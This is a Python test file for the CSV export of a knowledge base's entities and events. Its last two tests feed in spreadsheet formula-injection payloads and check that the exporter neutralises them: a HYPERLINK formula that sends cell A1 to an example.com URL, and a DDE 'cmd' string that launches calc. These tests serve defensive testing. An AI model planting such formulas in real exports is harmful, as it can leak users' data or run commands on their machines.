"""CSV exports of entities and events, read back with the csv module."""

import csv
import io

from sqlalchemy import func, select
from sqlalchemy.orm import Session

from app.db.models import Entity, EntityAlias, Event, EventEvidence, EventParticipant, Mention
from app.kb import curate
from app.kb.export import stream_export
from app.kb.export.csv import ENTITY_COLUMNS, EVENT_COLUMNS


def _read(session: Session, fmt: str) -> list[dict[str, str]]:
    text = "".join(stream_export(session, fmt, batch_size=7))
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_one_row_per_entity_with_its_counts(session: Session) -> None:
    rows = _read(session, "csv-entities")
    assert tuple(rows[0]) == ENTITY_COLUMNS
    counts = dict(
        session.execute(select(Mention.entity_id, func.count()).group_by(Mention.entity_id)).all()
    )
    live = select(Entity.id).where(Entity.merged_into_id.is_(None))
    assert [int(r["id"]) for r in rows] == sorted(session.scalars(live))
    for row in rows:
        assert int(row["mention_count"]) == counts.get(int(row["id"]), 0)
    names = dict(session.execute(select(Entity.id, Entity.name)).all())
    assert {int(r["id"]): r["name"] for r in rows} == names


def test_merged_entities_are_left_out(session: Session) -> None:
    people = list(session.scalars(select(Entity).where(Entity.type == "person").limit(2)))
    curate.merge_entities(session, people[1].id, into_id=people[0].id)
    ids = {int(r["id"]) for r in _read(session, "csv-entities")}
    assert people[0].id in ids
    assert people[1].id not in ids


def test_one_row_per_event_with_participants_and_articles(session: Session) -> None:
    rows = _read(session, "csv-events")
    assert tuple(rows[0]) == EVENT_COLUMNS
    assert [int(r["id"]) for r in rows] == sorted(session.scalars(select(Event.id)))
    participants = {
        (int(r["id"]), int(pair.split(":")[0]), pair.split(":")[1])
        for r in rows
        for pair in r["participant_ids"].split(";")
        if pair
    }
    assert participants == {
        tuple(p)
        for p in session.execute(
            select(EventParticipant.event_id, EventParticipant.entity_id, EventParticipant.role)
        )
    }
    articles = {(int(r["id"]), int(a)) for r in rows for a in r["article_ids"].split(";")}
    assert articles == {
        tuple(p) for p in session.execute(select(EventEvidence.event_id, EventEvidence.article_id))
    }
    main = {
        tuple(p)
        for p in session.execute(
            select(EventEvidence.event_id, EventEvidence.article_id).where(EventEvidence.main)
        )
    }
    assert main
    assert {
        (int(r["id"]), int(a)) for r in rows for a in r["main_article_ids"].split(";") if a
    } == (main)
    triggers = dict(session.execute(select(Event.id, Event.trigger)).all())
    assert {int(r["id"]): r["trigger"] or None for r in rows} == triggers


def test_formula_like_names_and_aliases_are_neutralised(session: Session) -> None:
    live = list(session.scalars(select(Entity).where(Entity.merged_into_id.is_(None))))
    renamed = live[:3]
    names = ['=HYPERLINK("http://example.com/?"&A1,"x")', "-Minus Industries", "+Plus Group"]
    for entity, name in zip(renamed, names, strict=True):
        curate.update_entity(session, entity.id, curate.EntityEdit(name=name))
    aliased = next(e for e in live[3:] if all(a.alias[0].isalpha() for a in _aliases(session, e)))
    curate.update_entity(session, aliased.id, curate.EntityEdit(add_aliases=["@SUM(1)"]))

    rows = {int(r["id"]): r for r in _read(session, "csv-entities")}
    for entity, name in zip(renamed, names, strict=True):
        assert rows[entity.id]["name"] == "'" + name
    aliases = sorted(a.alias for a in _aliases(session, aliased))
    assert aliases[0] == "@SUM(1)"
    assert rows[aliased.id]["aliases"] == "'" + ";".join(aliases)
    assert rows[aliased.id]["name"] == aliased.name  # plain text is left alone


def _aliases(session: Session, entity: Entity) -> list[EntityAlias]:
    return list(session.scalars(select(EntityAlias).where(EntityAlias.entity_id == entity.id)))


def test_formula_like_event_cells_are_neutralised(session: Session) -> None:
    event = session.scalars(select(Event).order_by(Event.id).limit(1)).one()
    event.summary, event.trigger = "\tcmd|' /C calc'!A0", "\rfoo"
    session.flush()
    participant = session.scalars(
        select(EventParticipant.entity_id)
        .where(EventParticipant.event_id == event.id)
        .order_by(EventParticipant.entity_id)
        .limit(1)
    ).one()
    curate.update_entity(session, participant, curate.EntityEdit(name="@Attacker"))
    row = next(r for r in _read(session, "csv-events") if int(r["id"]) == event.id)
    assert row["summary"] == "'\tcmd|' /C calc'!A0"
    assert row["trigger"] == "'\rfoo"
    assert row["participants"].startswith("'@Attacker (")
    assert row["status"] == event.status
